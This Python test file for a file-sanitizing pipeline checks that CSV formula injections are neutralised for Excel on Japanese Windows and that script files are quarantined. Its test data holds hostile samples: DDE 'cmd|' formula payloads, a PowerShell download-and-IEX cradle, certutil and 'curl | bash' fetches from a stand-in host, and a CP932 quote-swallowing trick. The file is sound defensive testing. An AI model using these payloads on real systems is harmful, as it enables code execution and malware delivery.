"""CSV and text at the boundary (issue #8 §1): cells are judged the way Excel on a Japanese
Windows will split and evaluate them, and script content is recognised by its statements.

Every check on an output reads it with the csv module under Excel's delimiter for the
file's name — not with the sanitizer's or the verifier's code.
"""

from __future__ import annotations

import csv
import io
import unicodedata
from pathlib import Path

import pytest

from cdr.model import Outcome
from cdr.pipeline import Pipeline
from cdr.policy import Policy

SIGNS = set("=+-@＝＋－＠")


def _live_cells(data: bytes, delimiter: str, encoding: str = "utf-8") -> list[str]:
    """Cells Excel would evaluate: a formula sign first, or after blanks (spaces, tabs,
    U+3000), that is not simply a number. A leading apostrophe makes a cell text."""
    text = data.decode(encoding).lstrip("\ufeff")
    live = []
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for cell in row:
            body = cell.lstrip(" \t\u3000")
            if cell.startswith("'") or not body or body[0] not in SIGNS:
                continue
            number = unicodedata.normalize("NFKC", body).replace(",", "").lstrip("+-")
            if not number.replace(".", "", 1).isdigit():
                live.append(cell)
    return live


def _release(pipeline: Pipeline, tmp_path: Path, name: str, body: bytes) -> bytes:
    source = tmp_path / name
    source.write_bytes(body)
    verdict = pipeline.process(source, name)
    assert verdict.verdict == Outcome.RELEASED, verdict
    return Path(verdict.output).read_bytes()


HOSTILE_CELLS = (
    "=cmd|' /C calc'!A0",
    " =1+1",
    "\u3000=HYPERLINK(\"http://x.example/\",\"押す\")",
    "＝WEBSERVICE(\"http://x.example/\")",
    "  ＠SUM(1+1)*cmd|' /C calc'!A0",
    "＋1+cmd|' /C calc'!A0",
    "\t=2+3",
)


def test_each_way_of_writing_a_formula_is_neutralised(pipeline: Pipeline, tmp_path: Path) -> None:
    body = "名前,金額\r\n" + "".join(f'"{cell}",100\r\n' for cell in HOSTILE_CELLS) + "返金,-1200\r\n"
    output = _release(pipeline, tmp_path, "一覧.csv", body.encode("utf-8"))
    assert _live_cells(output, ",") == []
    text = output.decode("utf-8")
    assert "返金" in text and "-1200" in text and "名前" in text
    assert "'＝WEBSERVICE" in text  # the cell is kept as text, not dropped


def test_cells_are_split_the_way_excel_splits_a_csv(pipeline: Pipeline, tmp_path: Path) -> None:
    # Mostly tabs, so a sniffer picks tab; Excel opens a .csv by comma and sees a formula.
    body = "a\tb\tc\r\n1\t2\t3,=cmd|' /C calc'!A0\r\n4\t5\t6,7\r\n"
    output = _release(pipeline, tmp_path, "export.csv", body.encode("utf-8"))
    assert _live_cells(output, ",") == []
    assert "4\t5\t6,7" in output.decode("utf-8")


def test_semicolon_directive_cannot_move_the_split(pipeline: Pipeline, tmp_path: Path) -> None:
    body = "sep=;\r\nname;amount\r\n=1+cmd|' /C calc'!A0;5\r\n"
    output = _release(pipeline, tmp_path, "data.csv", body.encode("utf-8"))
    text = output.decode("utf-8")
    assert not text.lower().startswith("sep=")
    assert _live_cells(output, ",") == [] and _live_cells(output, ";") == []


def test_html_named_csv_is_neutralised_as_excel_opens_it(pipeline: Pipeline, tmp_path: Path) -> None:
    body = b"<html><body><table><tr><td>=cmd|' /C calc'!A0</td><td>10</td></tr></table></body></html>"
    output = _release(pipeline, tmp_path, "report.csv", body)
    assert b"<" not in output and _live_cells(output, ",") == []


def test_tsv_is_judged_by_tab(pipeline: Pipeline, tmp_path: Path) -> None:
    body = "a,b\t=1+1\r\nc\t d\r\n"
    output = _release(pipeline, tmp_path, "table.tsv", body.encode("utf-8"))
    assert _live_cells(output, "\t") == []
    assert "a,b" in output.decode("utf-8")


SCRIPTS = {
    "powershell-later": "# 週報の集計\r\n# 作成: 総務課\r\n\r\n$wc = New-Object System.Net.WebClient\r\n"
    "$wc.DownloadString('http://x.example/a') | IEX\r\n",
    "powershell-shapes": "param($Path)\r\n$items = Get-ChildItem $Path\r\nRemove-Item $items\r\n",
    "vbscript": "' 設定\r\nSet sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc\"\r\n",
    "vbscript-shapes": "Option Explicit\r\nDim a\r\nDim b\r\nSub Main()\r\nEnd Sub\r\n",
    "jscript": "// note\r\nvar s = new ActiveXObject('WScript.Shell');\r\ns.Run('calc');\r\n",
    "batch-no-echo": "rem 毎朝の処理\r\nset TARGET=%TEMP%\\a.exe\r\ngoto :run\r\n:run\r\n"
    "certutil -urlcache -f http://x.example/a %TARGET%\r\n",
    "batch-shapes": "setlocal\r\nset A=1\r\nif exist C:\\x goto :end\r\n:end\r\nexit /b 0\r\n",
    "shell": "# install\n\ncurl -s http://x.example/i | bash\n",
    "hta": "<hta:application id=x />\r\n<b>x</b>\r\n",
}


@pytest.mark.parametrize("sample", sorted(SCRIPTS))
def test_script_statements_anywhere_in_the_first_lines(
    pipeline: Pipeline, tmp_path: Path, sample: str
) -> None:
    source = tmp_path / f"{sample}.txt"
    source.write_bytes(SCRIPTS[sample].encode("utf-8"))
    verdict = pipeline.process(source, source.name)
    assert verdict.verdict == Outcome.QUARANTINED and verdict.type == "script", verdict


@pytest.mark.parametrize(
    "body",
    (
        "PowerShell の研修は来週です。Windows の set コマンドについても説明します。\n",
        "品名,数量,備考\r\nDim 電球,3,在庫\r\nset 工具,1,貸出\r\n",
        "熊の目撃情報：午前九時、役場の裏山にて。\n担当: 環境課 (内線 123)\n",
    ),
)
def test_prose_that_mentions_scripts_stays_text(pipeline: Pipeline, tmp_path: Path, body: str) -> None:
    output = _release(pipeline, tmp_path, "memo.txt", body.encode("utf-8"))
    assert output.decode("utf-8") == body


def test_control_characters_of_both_ranges_are_removed(pipeline: Pipeline, tmp_path: Path) -> None:
    body = "受付ログ: 正常に処理しました。\n" * 20 + "ok\x1b[31mred\u0085next\u202eevil\n"
    output = _release(pipeline, tmp_path, "log.txt", body.encode())
    text = output.decode("utf-8")
    assert not any(unicodedata.category(c) == "Cc" and c not in "\t\r\n" for c in text)
    assert "\u202e" not in text and "red" in text and "next" in text


def test_utf16_csv_is_judged_by_tab_as_excel_opens_unicode_text(pipeline: Pipeline, tmp_path: Path) -> None:
    body = "山田\t=cmd|' /C calc'!A0\t危険\r\n"
    output = _release(pipeline, tmp_path, "一覧.csv", body.encode("utf-16"))
    assert output.startswith(b"\xff\xfe")
    assert _live_cells(output, "\t", "utf-16") == [] and "山田" in output.decode("utf-16")


def test_a_long_first_line_does_not_hide_the_statements(pipeline: Pipeline, tmp_path: Path) -> None:
    source = tmp_path / "memo.txt"
    source.write_bytes(b"A" * 2_000_000 + b"\r\nStart-Process calc.exe\r\n")
    verdict = pipeline.process(source, source.name)
    assert verdict.verdict == Outcome.QUARANTINED and verdict.reason == "blocked-type", verdict


@pytest.mark.parametrize("encoding", ["utf-8", "euc_jp", "cp932"])
def test_a_csv_is_released_in_what_excel_reads_as_it_was_judged(pipeline: Pipeline, tmp_path: Path, encoding: str) -> None:
    """Excel on a Japanese Windows reads a CSV without a BOM as CP932. A quoted cell ending
    in あ (UTF-8 E3 81 82) or む (EUC-JP A4 E0) ends in a CP932 lead byte that may take the
    closing quote with it, so a formula inside the cell starts a row of its own there. Such
    a CSV comes out as UTF-8 with a BOM (Shift_JIS stays Shift_JIS): read as Excel reads it,
    no cell is live and the text is the same."""
    body = '"あ""\r\n=cmd|\' /C calc\'!A0\r\nむ",x\r\n品名,数量\r\n'
    output = _release(pipeline, tmp_path, "一覧.csv", body.encode(encoding))
    if encoding == "cp932":
        assert output == body.encode("cp932")
    else:
        assert output.startswith(b"\xef\xbb\xbf") and output[3:].decode("utf-8") == body
    excel = "utf-8-sig" if output.startswith(b"\xef\xbb\xbf") else "cp932"
    assert _live_cells(output, ",", excel) == []


def test_the_verifier_reads_a_csv_without_a_bom_as_excel_does(default_policy: Policy) -> None:
    """Independently of the sanitizer: a released .csv without a BOM that is not Shift_JIS
    is refused, and a Shift_JIS one is judged in its CP932 reading."""
    from cdr.model import FileType
    from cdr.verifiers import VerifyContext, verify_structure

    def kinds(data: bytes, name: str = "一覧.csv") -> set[str]:
        return {f.kind for f in verify_structure(FileType.CSV, io.BytesIO(data), VerifyContext(default_policy, name))}

    shifted = '"あ""\r\n=cmd|\' /C calc\'!A0\r\n",x\r\n'
    assert kinds(shifted.encode("utf-8")) == {"csv-encoding-not-excels"}  # (its cells as written hold no live one)
    assert kinds(b"\xef\xbb\xbf" + shifted.encode("utf-8")) == set()
    assert kinds("品名,数量\r\n=1+cmd,x\r\n".encode("cp932")) == {"csv-live-cell"}
    assert kinds("品名,数量\r\n'=1+cmd,x\r\n".encode("cp932")) == set()
    assert kinds(shifted.encode("utf-8"), "memo.txt") == set()  # a .txt is not opened by Excel's name
